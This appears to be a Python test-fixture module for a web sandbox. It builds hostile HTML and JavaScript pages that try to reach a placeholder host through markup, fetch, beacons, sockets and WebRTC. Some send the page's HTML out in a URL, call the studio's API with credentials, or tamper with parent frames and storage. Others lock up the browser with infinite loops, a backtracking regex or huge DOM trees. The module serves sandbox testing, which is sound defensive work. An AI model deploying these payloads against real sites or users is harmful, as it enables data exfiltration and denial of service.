"""Pages that try to escape the sandbox, or to take the studio down with them.

`$W` is an address that must never be requested, `$U` its UDP port, `$S` the studio; requests to the studio end in
"leak". A page that takes the keyboard focus is not included: no policy keeps a frame from that.
"""

from __future__ import annotations

_MARKUP = {
    # Network requests by markup.
    "image": '<img src="$W/image"><img srcset="$W/image 2x"><input type=image src="$W/image">',
    "picture of the studio": '<img src="$S/icon.svg?leak">',
    "script": '<script src="$W/script"></script><script type=module src="$W/script"></script>',
    "style": '<link rel=stylesheet href="$W/style"><style>@import "$W/style"; body {background: url($W/style)}</style>',
    "font": "<style>@font-face {font-family: f; src: url($W/font)} p {font-family: f}</style><p>text",
    "cursor": "<style>* {cursor: url($W/cursor), auto; content: url($W/cursor)}</style><p>text",
    "frame": '<iframe src="$W/frame"></iframe><frameset><frame src="$W/frame"></frameset>',
    "frame of the studio": '<iframe src="$S/v1/models?leak"></iframe>',
    "frame in a frame": "<iframe srcdoc=\"<img src='$W/nested'><script>fetch('$W/nested')</script>\"></iframe>",
    "object": '<object data="$W/object"></object><embed src="$W/object">',
    "media": '<video src="$W/media" autoplay></video><audio src="$W/media" autoplay></audio><video poster="$W/media">',
    "subtitles": '<video><source src="$W/track"><track default src="$W/track"></video>',
    "drawing": '<svg><image href="$W/drawing"/><use href="$W/drawing#a"/><filter><feImage href="$W/drawing"/></filter>',
    "styled drawing": '<svg><style>@import "$W/svg";</style><rect fill="url($W/svg#a)" mask="url($W/svg#b)"/></svg>',
    "connection": '<link rel=preconnect href="$W"><link rel=dns-prefetch href="$W">',
    "prefetch": '<link rel=prefetch href="$W/prefetch"><link rel=prerender href="$W/prefetch">',
    "preload": '<link rel=preload as=image href="$W/preload"><link rel=modulepreload href="$W/preload">',
    "manifest": '<link rel=manifest href="$W/manifest"><link rel=icon href="$W/manifest">',
    "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["$W/speculation"]}]}</script>',
    "import map": '<script type=importmap>{"imports": {"a": "$W/map"}}</script><script type=module>import "a"</script>',
    "refresh": '<meta http-equiv=refresh content="0; url=$W/refresh">',
    "base": '<base href="$W/"><img src="base"><script src="base"></script>',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src="$W/policy">',
    "form": '<form id=f action="$W/form" method=post><input name=a value=1></form><script>f.submit()</script>',
    "form of the studio": '<form id=f action="$S/v1/models?leak"><button id=b></form><script>b.click()</script>',
    "form into the top": '<form id=f action="$W/top" target=_top></form><script>f.submit()</script>',
    "link": '<a id=a href="$W/link" target=_blank ping="$W/link">x</a><script>a.click()</script>',
    "link into the top": '<a id=a href="$W/link" target=_top>x</a><script>a.click()</script>',
    "download": '<a id=a href="data:text/plain,x" download=x.txt>x</a><script>a.click()</script>',
    "script of a link": '<a id=a href="javascript:top.location=`$W/js`" target=_parent>x</a><script>a.click()</script>',
}
_SCRIPTS = {
    # Network requests by scripts.
    "fetch": "fetch('$W/fetch').catch(() => 0); fetch('$W/fetch', {mode: 'no-cors', keepalive: true})",
    "fetch of the studio": "fetch('$S/v1/models?leak', {credentials: 'include'})",
    "request": "const r = new XMLHttpRequest(); r.open('POST', '$W/request'); r.send('x')",
    "beacon": "navigator.sendBeacon('$W/beacon', 'x')",
    "events": "new EventSource('$W/events')",
    "socket": "new WebSocket('$W/socket'.replace('http', 'ws'))",
    "transport": "new WebTransport('$W/transport'.replace('http:', 'https:'))",
    "import": "import('$W/import')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('$W/worker'); importScripts('$W/worker')`])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('$W/shared')`])))",
    "service worker": "navigator.serviceWorker.register('$S/icon.svg')",
    "picture": "new Image().src = '$W/picture'; document.body.style.background = 'url($W/picture)'",
    "navigation": "location.href = '$W/navigation'",
    "replacement": "location.replace('$W/replacement?' + encodeURIComponent(document.documentElement.outerHTML))",
    "written frame": "document.write('<iframe src=\"$W/written\"></iframe>')",
    "peers": (
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:$U'}]}); p.createDataChannel('x');"
        "p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "peers of a frame": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        "const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:$U'}]});"
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    # Other pages.
    "popup": "open('$W/popup'); open('about:blank'); open('$S/canvas', '_blank')",
    "top": "top.location = '$W/top'",
    "top by name": "open('$W/top', '_top'); open('$W/top', '_parent')",
    "parent": "parent.document.body.innerHTML = ''",
    "parent's script": "parent.eval('document.body.innerHTML = 1')",
    "way back": "history.back(); history.go(-2)",
    "message": "for (let i = 0; i < 1e4; i++) parent.postMessage({type: 'sf-say', text: 'x'.repeat(100)}, '*')",
    # Storage, and what needs a person's permission.
    "storage": "localStorage.setItem('sfumato.hostile', '1')",
    "session storage": "parent.sessionStorage.setItem('key', 'stolen')",
    "cookie": "document.cookie = 'hostile=1'",
    "database": "indexedDB.open('hostile')",
    "cache": "caches.open('hostile').then((c) => c.put('/x', new Response('x')))",
    "channel": "new BroadcastChannel('hostile').postMessage('x')",
    "dialogs": "for (let i = 0; i < 100; i++) { alert(1); confirm(2); prompt(3) } print()",
    "devices": (
        "navigator.mediaDevices?.getUserMedia({audio: true}); navigator.geolocation.getCurrentPosition(() => 0);"
        "navigator.clipboard?.writeText('x'); document.body.requestFullscreen(); Notification.requestPermission()"
    ),
    "leaving": "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'x' })",
}
_COSTLY = {
    "loop": "for (;;);",
    "microtasks": "const f = () => Promise.resolve().then(f); f()",
    "recursion": "const f = () => { try { f() } finally { f() } }; f()",
    "pattern": "/^(a+)+$/.test('a'.repeat(60) + 'b')",
    "timers": "for (let i = 0; i < 1000; i++) setInterval(() => { for (let j = 0; j < 1e6; j++); })",
    "many nodes": "for (let i = 0; i < 3e5; i++) document.body.append(document.createElement('p'))",
    "deep nodes": "let n = document.body; for (let i = 0; i < 5e4; i++) n = n.appendChild(document.createElement('b'))",
    "large text": "document.body.textContent = 'x'.repeat(2 ** 26)",
    "layout": (
        "setInterval(() => { document.body.innerHTML = '<table><tr><td>x'.repeat(500); document.body.offsetHeight })"
    ),
}
_STARTED = "parent.postMessage('begun', '*');"
CONTAINED = {name: f"<!doctype html><body><script>{_STARTED}</script>{markup}" for name, markup in _MARKUP.items()} | {
    name: f"<!doctype html><body><script>{_STARTED}{script}</script>" for name, script in _SCRIPTS.items()
}
"""Pages that try to reach something, by its name."""
COSTLY = {
    name: f"<!doctype html><body><script>{_STARTED}setTimeout(() => {{ {script} }}, 50)</script>"
    for name, script in _COSTLY.items()
}
"""Pages that use up time or memory."""
